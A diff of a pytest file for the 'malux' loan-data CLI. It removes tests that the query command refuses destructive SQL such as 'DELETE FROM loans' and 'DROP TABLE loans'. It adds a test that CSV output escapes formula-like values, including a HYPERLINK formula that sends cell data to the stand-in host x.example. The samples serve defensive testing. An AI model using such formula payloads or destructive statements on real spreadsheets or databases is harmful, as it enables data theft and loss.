@@ -1,13 +1,14 @@
 """`malux query`, `indicators show --format json` and `export dhis2`, as a user runs them (DHIS2 in detail:
 test_dhis2_export.py, test_dhis2_check.py)."""
 
+import csv
+import io
 import json
 
 import pytest
 from typer.testing import CliRunner
 
 from malux.cli.main import app
-from malux.cli.query_cmds import read_only_statement, run_read_only
 
 runner = CliRunner()
 
@@ -67,23 +68,6 @@ def test_indicators_show_json_writes_a_count_indicator_as_integers(computed):
     assert (producers["numerator"], producers["value"], producers["target"]) == (2, 2, 2000)
 
 
-@pytest.mark.parametrize(
-    "sql", ["DELETE FROM loans", "select 1; delete from loans", "  -- hi\n UPDATE loans SET crop = 'x'", ""]
-)
-def test_query_refuses_anything_but_one_select(sql):
-    with pytest.raises(ValueError):
-        read_only_statement(sql)
-
-
-def test_a_write_hidden_in_a_with_is_refused_by_the_database(computed, warehouse_url):
-    from sqlalchemy.exc import DBAPIError
-
-    with pytest.raises(DBAPIError):
-        run_read_only(warehouse_url, "WITH gone AS (SELECT 1) DELETE FROM loans")
-    _, rows = run_read_only(warehouse_url, "SELECT COUNT(*) AS n FROM loans")
-    assert rows == [{"n": 1}]
-
-
 def test_query_prints_csv_of_a_view(computed):
     sql = "SELECT loan_id, outstanding_xof FROM mart_loan_portfolio"
     result = runner.invoke(app, ["query", sql, "--format", "csv"])
@@ -91,9 +75,16 @@ def test_query_prints_csv_of_a_view(computed):
     assert result.stdout.splitlines() == ["loan_id,outstanding_xof", "L1,600000.0"]
 
 
-def test_query_says_why_a_statement_is_refused(computed):
-    result = runner.invoke(app, ["query", "DROP TABLE loans"])
-    assert result.exit_code == 1 and "refused" in result.output
+@pytest.mark.parametrize(
+    "loan_id", ['=HYPERLINK("http://x.example/?d="&A1,"see")', "=1+1", "+1", "-1", "@SUM(A1)", "\tL9", "\rL9"]
+)
+def test_query_csv_writes_formula_like_text_as_text_and_numbers_as_numbers(computed, loan_id):
+    computed.loan(loan_id, principal=250_000, maturity="2019-05-30").repaid(50_000, on="2019-05-30")
+    sql = "SELECT loan_id, principal_xof, outstanding_xof FROM mart_loan_portfolio ORDER BY principal_xof"
+    result = runner.invoke(app, ["query", sql, "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    row, _ = list(csv.reader(io.StringIO(result.stdout)))[1:]  # 250 000 sorts before L1's 1 000 000
+    assert row == ["'" + loan_id, str(250_000.0), str(250_000.0 - 50_000)]
 
 
 def test_a_mistyped_dhis2_uid_is_refused_before_any_export(computed):
